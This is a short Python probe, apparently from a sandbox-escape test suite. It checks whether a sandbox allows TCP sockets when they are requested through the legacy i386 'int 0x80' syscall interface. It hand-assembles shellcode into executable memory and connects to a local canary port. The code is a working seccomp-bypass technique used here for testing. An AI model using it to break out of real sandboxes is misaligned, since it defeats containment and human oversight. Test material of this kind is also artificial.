# TRIES: the i386 table by int 0x80 (socketcall, socket 359, connect 362), in a forked child because it may be killed. SUCCESS: the TCP
# canary is reached, or any TCP socket of the sandbox exists.
#: check = canary tcp
#: start = syscalls

import mmap, struct

code = mmap.mmap(-1, 4096, prot=7)
lowmap = L.mmap
lowmap.restype = ctypes.c_void_p


def int80(nr, b, c, d):
    # push rbx; mov eax,nr; mov ebx,b; mov ecx,c; mov edx,d; int 0x80; pop rbx; ret
    body = (
        b"\x53\xb8"
        + struct.pack("<I", nr)
        + b"\xbb"
        + struct.pack("<I", b)
        + b"\xb9"
        + struct.pack("<I", c)
        + b"\xba"
        + struct.pack("<I", d)
        + b"\xcd\x80\x5b\xc3"
    )
    code.seek(0)
    code.write(body)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()


for nr in (359, 102, 20):
    pid = os.fork()
    if pid == 0:
        low = lowmap(ctypes.c_void_p(0x10000), ctypes.c_size_t(4096), 3, 0x32, -1, ctypes.c_long(0))
        if nr == 102:
            ctypes.memmove(0x10000, struct.pack("<III", 2, 1, 0), 12)
            fd = int80(102, 1, 0x10000, 0)
        else:
            fd = int80(nr, 2, 1, 0)
        print("i386", nr, fd, flush=True)
        if nr != 20 and fd > 0:
            a = struct.pack("=HH4s8x", 2, ((__TCP__ & 255) << 8) | (__TCP__ >> 8), bytes([127, 0, 0, 1]))
            print(sc(42, fd, a, 16), sc(1, fd, b"n05", 3), flush=True)
        os._exit(0)
    print("child", nr, os.waitpid(pid, 0)[1], flush=True)


def solve(x):
    return 2
